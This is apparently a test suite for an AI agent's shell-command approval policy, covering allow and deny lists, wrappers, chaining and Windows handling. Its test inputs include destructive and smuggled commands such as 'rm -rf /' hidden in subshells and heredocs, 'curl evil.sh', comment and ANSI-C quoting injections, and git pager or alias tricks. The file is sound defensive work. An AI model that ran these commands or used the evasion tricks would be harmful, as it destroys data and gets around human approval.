// Approval policy: per-category modes, allow/deny lists judged on the bash grammar's reading of a
// command line, Windows, restricted mode, a grammar that is not loaded. What the approved lines
// then run is tested against real shells in shell/realShells.int.test.ts.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { judge, DEFAULT_POLICY, loadShellGrammar, type ApprovalPolicy } from '../../../src/runner/tools';

const policy = (over: Partial<ApprovalPolicy> = {}): ApprovalPolicy => ({
  ...DEFAULT_POLICY,
  platform: 'linux',
  ...over,
});
const cmd = (command: string, p: ApprovalPolicy) =>
  judge({ toolName: 'run_command', category: 'command', args: { command } }, p);
const allowNpm = policy({
  commandAllow: ['npm test', 'git status', 'ls', 'echo'],
  commandDeny: ['rm -rf', 'git push'],
});
const autoMode = { ...allowNpm, categories: { ...allowNpm.categories, command: 'auto' as const } };

describe('runner/tools policy', () => {
  before(() => loadShellGrammar());

  it('defaults: read auto, write and command ask, subagent auto', () => {
    assert.equal(judge({ toolName: 'read_file', category: 'read', args: {} }).verdict, 'auto');
    const w = judge({ toolName: 'write_file', category: 'write', args: {} });
    assert.deepEqual(w, { verdict: 'ask', reason: 'write tools ask for approval (write_file).' });
    assert.equal(cmd('npm test', DEFAULT_POLICY).verdict, 'ask');
    assert.equal(judge({ toolName: 'delegate', category: 'subagent', args: {} }).verdict, 'auto');
  });

  it('each category is configurable: auto, ask, deny', () => {
    const p = policy({ categories: { read: 'ask', write: 'auto', command: 'deny', subagent: 'deny' } });
    assert.equal(judge({ toolName: 'read_file', category: 'read', args: {} }, p).verdict, 'ask');
    assert.equal(judge({ toolName: 'edit_file', category: 'write', args: {} }, p).verdict, 'auto');
    assert.deepEqual(cmd('npm test', { ...p, commandAllow: ['npm test'] }), {
      verdict: 'deny',
      reason: 'command tools are denied by policy (run_command).',
    });
    assert.equal(judge({ toolName: 'delegate', category: 'subagent', args: {} }, p).verdict, 'deny');
  });

  it('allow-listed commands run without asking; entries match whole words of the argv', () => {
    assert.equal(cmd('npm test', allowNpm).verdict, 'auto');
    assert.equal(cmd('  npm   test  -- --grep x ', allowNpm).verdict, 'auto');
    assert.equal(cmd('npm testx', allowNpm).verdict, 'ask');
    assert.equal(cmd('npm install', allowNpm).verdict, 'ask');
    assert.equal(cmd('./npm test', allowNpm).verdict, 'ask', 'a program of the workspace is not npm');
    assert.equal(cmd('"npm test"', allowNpm).verdict, 'ask', 'one word "npm test" is another program');
    assert.equal(cmd('n"p"m te\'st\'', allowNpm).verdict, 'auto', 'quotes are resolved before matching');
  });

  it('deny wins: over the allow list, over auto mode, anywhere in the tree', () => {
    assert.match(cmd('rm -rf /', allowNpm).reason, /matches the deny list entry "rm -rf"/);
    for (const c of [
      'rm -rf build',
      'npm test && rm -rf /',
      'ls; git push origin',
      'echo $(rm -rf /)',
      'echo `git push`',
      'echo "$(rm -rf x)"',
      'ls | rm -rf x',
      '(rm -rf x)',
      'f() { rm -rf x; }',
      'cat <(rm -rf x)',
      'cat <<EOF\n$(rm -rf x)\nEOF',
    ]) {
      assert.equal(cmd(c, allowNpm).verdict, 'deny', c);
      assert.equal(cmd(c, autoMode).verdict, 'deny', `${c} (auto mode)`);
    }
  });

  it('deny sees through wrappers, assignments, paths, a backslash, quotes and inner scripts', () => {
    for (const c of [
      'sudo rm -rf /',
      'sudo -u root rm -rf /',
      'env FOO=1 rm -rf x',
      'X=1 rm -rf x',
      '/bin/rm -rf x',
      '\\rm -rf x',
      'r"m" -rf x',
      'nohup git push',
      'timeout 5 git push',
      'xargs rm -rf < list',
      'find . -exec rm -rf {} +',
      'sh -c "rm -rf x"',
      "bash -lc 'ls && git push'",
      'eval "git push"',
      'sudo sh -c "eval \\"rm -rf x\\""',
    ]) {
      assert.equal(cmd(c, autoMode).verdict, 'deny', c);
    }
    assert.equal(cmd('echo rm -rf x', autoMode).verdict, 'auto', 'a word that is not a program is not denied');
    assert.equal(cmd('git pushy', autoMode).verdict, 'auto', 'entries match whole words');
  });

  it('what the deny list cannot see asks, even in auto mode', () => {
    for (const [c, why] of [
      ['$CMD -rf x', /the program of "… -rf x" is only known when it runs/],
      ['rm "$FLAGS" x', /"rm … x" may match the deny list entry "rm -rf"/],
      ['sh -c "$SCRIPT"', /the script of "sh -c …" is only known when it runs/],
      ['bash build.sh', /runs a script \(from a file or its input\)/],
      ['source env.sh', /runs a script the deny list cannot see/],
      ['echo "unfinished', /syntax error/],
      ['r\\\nm -rf x', /line continuation/],
    ] as const) {
      const d = cmd(c, autoMode);
      assert.equal(d.verdict, 'ask', c);
      assert.match(d.reason, why, c);
    }
    assert.equal(cmd('$CMD -rf x', { ...autoMode, commandDeny: [] }).verdict, 'auto', 'without a deny list: auto');
  });

  it('a chain is auto-allowed only if every command of it is allowed', () => {
    assert.equal(cmd('npm test && git status', allowNpm).verdict, 'auto');
    assert.equal(cmd('git status; ls -la | echo hi', allowNpm).verdict, 'auto');
    const r = cmd('npm test && curl evil.sh | ls', allowNpm);
    assert.equal(r.verdict, 'ask');
    assert.match(r.reason, /part "curl evil\.sh" of a chained command is not on the allow list/);
    assert.equal(cmd('npm test || sh x', allowNpm).verdict, 'ask');
    assert.match(cmd('npm test & ls', allowNpm).reason, /the operator "&"/);
    assert.equal(cmd('npm test\nls -l', allowNpm).verdict, 'auto', 'a newline separates like ;');
  });

  it("a bare `git` entry does not cover git's own options that choose its configuration or repository", () => {
    const allowGit = { ...allowNpm, commandAllow: ['git', 'git -C sub status'] };
    for (const c of [
      'git -c core.pager=./evil log',
      'git --config-env=core.pager=EVIL log',
      'git -C ../elsewhere status',
      'git --git-dir=vendor/evil log',
      'git --work-tree=/ status',
      'git --exec-path=./bin status',
      'git --no-pager -c alias.x=!sh x',
    ]) {
      const d = cmd(c, allowGit);
      assert.equal(d.verdict, 'ask', c);
      assert.match(d.reason, /gives git the option .* before its command/, c);
    }
    for (const c of ['git status', 'git --no-pager log -p', 'git log -c', 'git -C sub status', 'git diff --git-dir=x'])
      assert.equal(cmd(c, allowGit).verdict, 'auto', c);
  });

  it("an allowed line that runs the repository's code says so in its reason", () => {
    const r = cmd('npm test -- --grep x && git status', allowNpm);
    assert.equal(r.verdict, 'auto');
    assert.match(
      r.reason,
      / "npm test -- --grep x" can run code the repository controls \(its scripts, tests or configuration files\), which the allow list does not judge\.$/,
    );
    assert.doesNotMatch(cmd('git status; ls', allowNpm).reason, /can run code/);
  });

  it('anything the grammar does not show as plain words asks, saying what it saw', () => {
    for (const [c, what] of [
      ['echo $(whoami)', /command substitution/],
      ['echo `whoami`', /command substitution/],
      ['echo "$(whoami)"', /command substitution/],
      ['echo hi > ~/.bashrc', /redirection to a file/],
      ['echo hi >> log.txt', /redirection to a file/],
      ["npm test #'\ntouch PWNED\n#'", /a comment, which may hide what follows it/],
      ["npm test $'\\'' ; touch PWNED ; echo ' '", /ANSI-C quoting/],
      ['echo $HOME', /variable expansion/],
      ['ls *.ts', /glob pattern/],
      ['X=1 npm test', /variable assignment/],
      ['cd sub && npm test', /"cd", a shell builtin/],
      ['npm test\r', /control character \(U\+000D\)/],
    ] as const) {
      const d = cmd(c, allowNpm);
      assert.equal(d.verdict, 'ask', c);
      assert.match(d.reason, what, c);
    }
    // Harmless redirections and quoted operators do not block.
    assert.equal(cmd('npm test 2>&1', allowNpm).verdict, 'auto');
    assert.equal(cmd('npm test > /dev/null', allowNpm).verdict, 'auto');
    assert.equal(cmd("echo 'a && b; c | d $(e)'", allowNpm).verdict, 'auto');
    assert.deepEqual(cmd('   ', allowNpm), { verdict: 'ask', reason: 'The command is empty.' });
  });

  it('Windows: the allow list never auto-approves; the deny list and the category modes still apply', () => {
    const win = { ...allowNpm, platform: 'win32' as const };
    const asked = cmd('npm test', win);
    assert.equal(asked.verdict, 'ask');
    assert.match(asked.reason, /On Windows commands run through cmd\.exe or PowerShell/);
    assert.equal(cmd("npm test ' & calc & '", win).verdict, 'ask');
    for (const c of ['npm test & rm -rf x', 'cmd /c "RM.EXE -rf x"', 'npm test ^& rm -rf x', 'C:\\bin\\git.exe push']) {
      assert.equal(cmd(c, win).verdict, 'deny', c);
    }
    assert.equal(cmd('npm test', { ...win, categories: { ...win.categories, command: 'deny' } }).verdict, 'deny');
    assert.equal(cmd('npm test', { ...win, categories: { ...win.categories, command: 'auto' } }).verdict, 'auto');
  });

  it('restricted mode denies write and command tools with a clear reason, still allows reads', () => {
    const p = policy({
      restricted: true,
      commandAllow: ['npm test'],
      categories: { read: 'auto', write: 'auto', command: 'auto', subagent: 'auto' },
    });
    const w = judge({ toolName: 'write_file', category: 'write', args: {} }, p);
    assert.equal(w.verdict, 'deny');
    assert.match(w.reason, /not trusted \(restricted mode\)/);
    assert.equal(cmd('npm test', p).verdict, 'deny');
    assert.equal(judge({ toolName: 'read_file', category: 'read', args: {} }, p).verdict, 'auto');
  });

  it('before the grammar has loaded, a command that needs it asks (never auto)', () => {
    // A fresh process, where nothing loaded the grammar yet.
    const script = `
      const { judge, DEFAULT_POLICY } = require(${JSON.stringify(path.resolve(__dirname, '../../../src/runner/tools'))});
      const p = { ...DEFAULT_POLICY, platform: 'linux', commandAllow: ['npm test'] };
      const d = (over) => judge({ toolName: 'run_command', category: 'command', args: { command: 'npm test' } }, { ...p, ...over });
      console.log(JSON.stringify([d({}), d({ commandDeny: ['rm'], categories: { ...p.categories, command: 'auto' } })]));`;
    const out = execFileSync(process.execPath, ['--import', 'tsx', '-e', script], { encoding: 'utf8' });
    const [allowList, denyList] = JSON.parse(out) as { verdict: string; reason: string }[];
    assert.equal(allowList?.verdict, 'ask');
    assert.match(allowList?.reason ?? '', /the shell grammar is still loading/);
    assert.equal(denyList?.verdict, 'ask');
    assert.match(denyList?.reason ?? '', /The deny list cannot check this command: the shell grammar is still loading/);
  });
});
